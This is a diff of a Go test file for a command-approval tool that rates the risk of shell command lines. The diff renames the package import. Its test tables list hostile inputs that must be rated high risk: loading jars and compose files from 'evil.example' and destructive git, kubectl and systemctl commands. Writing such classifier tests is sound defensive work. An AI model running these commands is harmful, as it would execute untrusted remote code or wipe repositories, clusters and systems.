@@ -5,7 +5,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
-	"approvalbot/core"
+	"approvalbot/internal/approval"
 )
 
 // TestAdversary_W16_RowsThatDoMore: an option, a word or a file beside what a row allows
@@ -44,7 +44,7 @@ func TestAdversary_W16_RowsThatDoMore(t *testing.T) {
 		"javap jar:http://evil.example/x.jar!/A", "javap -cp http://evil.example/x.jar A", "docker compose -f https://evil.example/x.yml ps", "docker compose -f git@evil.example:x/y.git ps", "docker-compose -f git@evil.example:x/y.git config -q",
 	} {
 		j := judge(e, lineCall(t, line))
-		require.GreaterOrEqual(t, j.Assessment.RiskClass, core.R3, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.GreaterOrEqual(t, j.Assessment.RiskClass, approval.R3, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 }
 
@@ -60,7 +60,7 @@ func TestRowsStillTell(t *testing.T) {
 		"prettier --check src", "shfmt -d a.sh", "isort -c a.py", "buf format -d", "npm run build -- --dir dist", "dig example.com", "ping -c 1 example.com", "javap -c Foo.class", "docker compose -f docker-compose.yml ps",
 	} {
 		j := judge(e, lineCall(t, line))
-		require.LessOrEqual(t, j.Assessment.RiskClass, core.R2, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.LessOrEqual(t, j.Assessment.RiskClass, approval.R2, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 }
 
@@ -73,10 +73,10 @@ func TestAdversary_W16_HelpIsNoRefusal(t *testing.T) {
 		"git reflog expire --dry-run --all", "git prune -n", "git stash drop -n",
 	} {
 		j := judge(e, lineCall(t, line))
-		require.Equal(t, core.R3, j.Assessment.RiskClass, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.Equal(t, approval.R3, j.Assessment.RiskClass, "%s: %v", line, j.Assessment.ReasonCodes)
 		require.NotContains(t, j.Assessment.ReasonCodes, "malformed-call", line)
 	}
 	for _, line := range []string{"git push --force origin help", "git clean -fdx help", "git clean -fdx -- --help", "kubectl delete ns help", "docker volume rm help", "kubectl delete ns -- --help x", "systemctl poweroff x"} {
-		require.Equal(t, core.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
+		require.Equal(t, approval.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
 	}
 }
